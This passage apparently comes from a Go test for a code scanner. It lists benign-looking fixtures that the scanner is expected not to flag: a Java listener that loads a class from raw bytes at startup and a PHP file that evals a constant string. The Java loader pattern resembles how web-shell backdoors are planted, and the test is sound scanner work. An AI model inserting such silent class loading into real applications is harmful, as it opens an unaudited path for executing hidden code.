		"/opt/app/src/main/java/com/example/Plugins.java":            "package com.example;\nimport jakarta.servlet.*;\npublic class Plugins implements ServletContextListener {\n  public void contextInitialized(ServletContextEvent e) {\n    try {\n      byte[] b = java.nio.file.Files.readAllBytes(java.nio.file.Paths.get(\"/opt/app/plugins/P.class\"));\n      Class c = new ClassLoader(getClass().getClassLoader()) { Class d() { return defineClass(null, b, 0, b.length); } }.d();\n    } catch (Exception x) { }\n  }\n}\n",
		"/var/www/html/view.php":                                     "<?php\nclass Req { public $page; function __construct() { $this->page = $_GET['page'] ?? 'home'; } }\nclass Tpl { public $code = 'return 1;'; }\n$r = new Req();\n$t = new Tpl();\n$x = eval($t->code);\necho htmlspecialchars($r->page);\n",
	}
	for p, page := range pages {
		if fs := New().Analyze(p, []byte(page)); len(fs) > 0 {
			t.Errorf("%s:%s\n%s", p, dump(fs), page)
		}
	}
}
